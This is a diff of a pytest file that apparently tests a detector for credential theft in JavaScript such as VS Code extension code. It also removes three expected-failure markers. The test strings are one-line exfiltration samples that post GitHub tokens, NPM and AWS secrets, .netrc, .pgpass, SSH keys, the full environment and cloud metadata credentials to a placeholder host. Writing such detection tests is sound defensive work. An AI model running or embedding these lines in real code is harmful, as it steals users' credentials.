@@ -14,10 +14,6 @@ const url = "https://a.invalid/s", post = (body) => fetch(url, { method: "POST",
 """
 
 
-def fault(reason: str) -> pytest.MarkDecorator:
-    return pytest.mark.xfail(strict=True, reason=reason)
-
-
 @pytest.mark.parametrize(
     "source",
     [
@@ -42,10 +38,7 @@ def fault(reason: str) -> pytest.MarkDecorator:
         "vscode.authentication.getSession('github', []).then((s) => post(s.accessToken));",
         "post(JSON.stringify([process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]));",
         "https.get(url + '?k=' + fs.readFileSync(home + '/.pgpass').toString('hex'));",
-        pytest.param(
-            "vscode.env.openExternal(vscode.Uri.parse(url + fs.readFileSync(home + '/.netrc')));",
-            marks=fault("Uri.parse drops the text of the address"),
-        ),
+        "vscode.env.openExternal(vscode.Uri.parse(url + fs.readFileSync(home + '/.netrc')));",
         "vscode.env.openExternal(url + fs.readFileSync(home + '/.netrc'));",
         (
             "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
@@ -67,10 +60,7 @@ def test_a_secret_that_is_sent_is_found(source: str) -> None:
     [
         "post(JSON.stringify(process.env));",
         "post(JSON.stringify({ ...process.env }));",
-        pytest.param(
-            "const { env } = process; post(Buffer.from(JSON.stringify(env)).toString('base64'));",
-            marks=fault("the environment that is taken out of process by a pattern"),
-        ),
+        "const { env } = process; post(Buffer.from(JSON.stringify(env)).toString('base64'));",
         "post(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&'));",
         "const all = Object.assign({}, process.env); post(JSON.stringify(all));",
     ],
@@ -88,10 +78,7 @@ def test_the_whole_environment_that_is_sent_is_found(source: str) -> None:
         "show(fs.readFileSync(home + '/.ssh/id_rsa'));",
         "fs.readFileSync(home + '/.ssh/id_rsa'); post('x');",
         "post(fs.readFileSync(home + '/.ssh/config', 'utf8'));",
-        pytest.param(
-            "post(fs.readFileSync(home + '/.ssh/id_rsa.pub', 'utf8'));",
-            marks=fault("public keys are no secrets"),
-        ),
+        "post(fs.readFileSync(home + '/.ssh/id_rsa.pub', 'utf8'));",
         "post(String(fs.existsSync(home + '/.aws/credentials')));",
         "post(fs.readFileSync(home + '/notes.txt'));",
         "cp.spawn('server', [], { env: process.env }); post('started');",
